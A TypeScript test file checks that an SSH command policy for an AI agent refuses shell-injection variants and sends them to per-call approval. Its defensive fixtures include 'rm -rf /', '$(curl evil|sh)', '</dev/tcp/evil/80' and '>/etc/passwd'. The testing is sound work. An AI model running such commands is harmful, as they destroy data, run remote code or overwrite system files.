import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { parseConfig } from '../config/index.js';
import { globMatches, sshCommandPolicy } from './ssh-command-policy.js';

const config = parseConfig(`version: 1
ssh_hosts:
  - name: web
    host: web.example
    user: deploy
    credential: k
    host_key: accept_new
    approval: per_call
    rules_may_loosen: true
    commands:
      - command: 'systemctl status *'
        lane: reads
        approval: none
      - command: 'deploy *'
        lane: deploy
`);
const web = config.sshHosts.get('web');
const hostFallback = { lane: 'host:web', approval: 'per_call' };

function policyOf(command: string): { lane: string; approval: string } {
  if (web === undefined) throw new Error('the test config has no host web');
  return sshCommandPolicy(web, command);
}

describe('when a command is matched against the host entry', () => {
  it.each([
    ['systemctl status nginx', 'reads', 'none'],
    ['systemctl status nginx.service', 'reads', 'none'],
    ['systemctl status user@1000.service', 'reads', 'none'],
    ['deploy v1.2', 'deploy', 'per_call'],
    ['deploy release/2024-06-01+build.7', 'deploy', 'per_call'],
    ['rm -rf /', 'host:web', 'per_call'],
    ['systemctl status', 'host:web', 'per_call'],
  ])('%s → lane %s, approval %s', (command, lane, approval) => {
    expect(policyOf(command)).toEqual({ lane, approval });
  });

  it.each([
    ['a*c', 'abc', true],
    ['a*c', 'a\nc', false],
    ['a.c', 'abc', false],
    ['*', '', true],
    ['ls (x)', 'ls (x)', true],
    ['ls', 'ls -la', false],
    ['ls *', 'ls /var/log/app-1.log', true],
  ])('glob %j against %j → %s (regex characters are literal)', (pattern, text, expected) => {
    expect(globMatches(pattern, text)).toBe(expected);
  });
});

describe('when the agent widens a wildcard with shell syntax', () => {
  it.each([
    'systemctl status nginx; rm -rf /srv/app',
    'systemctl status x && systemctl restart nginx',
    'systemctl status x || reboot',
    'systemctl status x | sh',
    'systemctl status nginx &',
    'systemctl status $(curl evil|sh)',
    'systemctl status `reboot`',
    'systemctl status ${IFS}reboot',
    'systemctl status x\nreboot',
    'systemctl status x\rreboot',
    'systemctl status x\treboot',
    'systemctl status x\u001b[2Kreboot',
    'systemctl status x>/etc/passwd',
    'systemctl status x</dev/tcp/evil/80',
    "systemctl status 'x'",
    'systemctl status "x"',
    'systemctl status x\\',
    'systemctl status x#',
    'systemctl status ~root',
    'systemctl status *',
    'systemctl status {a,b}',
    'systemctl status !!',
    'systemctl status ngïnx',
    'systemctl status nginx postgres',
  ])('%j matches no rule: the host approval per_call and lane host:web apply', (command) => {
    expect(policyOf(command)).toEqual(hostFallback);
  });

  it('even the broadest rule, *, never matches a metacharacter or control character', () => {
    const metachar = fc.constantFrom(...';&|`$()<>\\\'"#~*?[]{}!^% \t\n\r\u0000\u001b\u007f\u0085\u2028\u202e');
    const rest = fc.string({ unit: 'binary', maxLength: 40 });
    fc.assert(
      fc.property(rest, metachar, rest, (before, c, after) => {
        expect(globMatches('*', `${before}${c}${after}`)).toBe(false);
      }),
    );
  });

  it('a command holding a character no wildcard matches, and the pattern does not, matches no rule', () => {
    const safe = fc.string({ unit: fc.constantFrom(...'abcXYZ019_-./:,@+= '), maxLength: 8 });
    const pattern = fc.array(fc.oneof(safe, fc.constant('*')), { minLength: 1, maxLength: 6 }).map((p) => p.join(''));
    const metachar = fc.constantFrom(...';&|`$()<>\\\'"#~?[]{}!^%\t\n\r\u001b\u00a0');
    const rest = fc.string({ unit: 'grapheme-ascii', maxLength: 30 });
    fc.assert(
      fc.property(pattern, rest, metachar, rest, (p, before, c, after) => {
        expect(globMatches(p, `${before}${c}${after}`)).toBe(false);
      }),
    );
  });

  it('any honest filling of a rule’s wildcards still matches it', () => {
    const literal = fc.string({ unit: fc.constantFrom(...'abc019 -=/'), maxLength: 6 });
    const word = fc.string({ unit: fc.constantFrom(...'abcXYZ019_-./:,@+='), maxLength: 12 });
    const filled = fc.array(fc.tuple(literal, word), { minLength: 1, maxLength: 4 });
    fc.assert(
      fc.property(literal, filled, (head, parts) => {
        const pattern = head + parts.map(([lit]) => `*${lit}`).join('');
        const command = head + parts.map(([lit, w]) => `${w}${lit}`).join('');
        expect(globMatches(pattern, command)).toBe(true);
        expect(policyOf(`systemctl status ${parts[0]?.[1] ?? ''}`)).toEqual({ lane: 'reads', approval: 'none' });
      }),
    );
  });

  it('any shell tail after an honest status command falls back to the host', () => {
    const tail = fc.tuple(
      fc.constantFrom(';', '&&', '||', '|', '&', '$(', '`', '\n', '\r', '>', '<'),
      fc.string({ maxLength: 20 }),
    );
    fc.assert(
      fc.property(tail, ([op, rest]) => {
        expect(policyOf(`systemctl status nginx${op}${rest}`)).toEqual(hostFallback);
      }),
    );
  });
});

describe('when the ssh_hosts section is invalid', () => {
  const refusal = (yaml: string): unknown => {
    try {
      parseConfig(yaml);
      return undefined;
    } catch (error) {
      return error;
    }
  };
  const entry = (extra: string) =>
    `version: 1\nssh_hosts:\n  - name: a\n    host: h\n    user: u\n    credential: k\n${extra}`;
  it.each([
    [
      'a pin not in ssh-keygen form',
      entry('    host_key: {pinned: [sha256:abc]}\n'),
      'ssh_hosts[0].host_key.pinned[0]',
    ],
    ['no host key policy', entry(''), 'ssh_hosts[0].host_key'],
    ['a port out of range', entry('    host_key: accept_new\n    port: 70000\n'), 'ssh_hosts[0].port'],
    [
      'a duplicate name',
      `${entry('    host_key: accept_new\n')}  - name: a\n    host: h2\n    user: u\n    credential: k\n    host_key: accept_new\n`,
      'ssh_hosts[1].name',
    ],
  ])('%s → CONFIG_INVALID naming the field', (_label, yaml, field) => {
    expect(refusal(yaml)).toMatchObject({ code: 'CONFIG_INVALID', field });
  });
});
